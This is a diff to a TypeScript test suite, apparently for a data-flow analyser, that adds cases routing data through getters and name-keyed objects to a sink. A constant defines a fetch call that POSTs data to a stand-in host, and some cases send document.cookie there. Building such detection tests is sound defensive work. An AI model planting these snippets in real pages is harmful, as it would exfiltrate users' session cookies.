@@ -8,6 +8,9 @@ import { graded } from '../testing/graded.ts';
 
 const SEND = "const send = (x) => fetch('https://gather.example/c', { method: 'POST', body: JSON.stringify(x) });";
 
+/** Names that methods of the platform have, too. */
+const OTHERS = ['get', 'set', 'add', 'on', 'off', 'once', 'emit', 'call', 'all', 'map', 'each', 'find', 'init', 'html'];
+
 const WAYS: readonly (readonly [name: string, program: (data: string) => string])[] = [
   [
     'what a module of a bundle makes, which is the module itself',
@@ -84,6 +87,27 @@ const WAYS: readonly (readonly [name: string, program: (data: string) => string]
       note.text = ${data};
       out.call(note);`,
   ],
+  [
+    'a function that getters of a module’s give, in another object',
+    (data) => `
+      var give = (to, all) => { for (var name in all) Object.defineProperty(to, name, { get: all[name], enumerable: true }); };
+      var parts = {};
+      give(parts, { tell: () => tell, hush: () => hush });
+      function tell(x) { send(x); }
+      function hush() {}
+      function _() {}
+      function mix(from) { Object.keys(from).forEach((name) => { var part = _[name] = from[name]; return part; }); }
+      mix(parts);
+      _.tell(${data});`,
+  ],
+  [
+    'one of many functions that all keep their names in another object',
+    (data) => `
+      const parts = { run: (x) => send(x), ${OTHERS.map((name) => `${name}: () => '${name}'`).join(', ')} };
+      const all = {};
+      Object.keys(parts).forEach((name) => { all[name] = parts[name]; });
+      all.run(${data});`,
+  ],
 ];
 
 describe('data goes on by', () => {
@@ -107,6 +131,13 @@ const APART: readonly (readonly [name: string, program: string])[] = [
     'another function of a pair',
     `function cellOf(first) { const cell = { kept: first }; return [function () { return this.at; }.bind({ at: 1 }), (x) => { cell.kept = x; }]; }
       const [get, set] = cellOf(''); set(document.cookie); send(get());`,
+  ],
+  [
+    'another of many functions that keep their names',
+    `const parts = { run: (x) => send(x), ${OTHERS.map((name) => `${name}: () => '${name}'`).join(', ')} };
+      const all = {};
+      Object.keys(parts).forEach((name) => { all[name] = parts[name]; });
+      all.html(document.cookie);`,
   ],
   [
     'itself, in an object that holds itself',
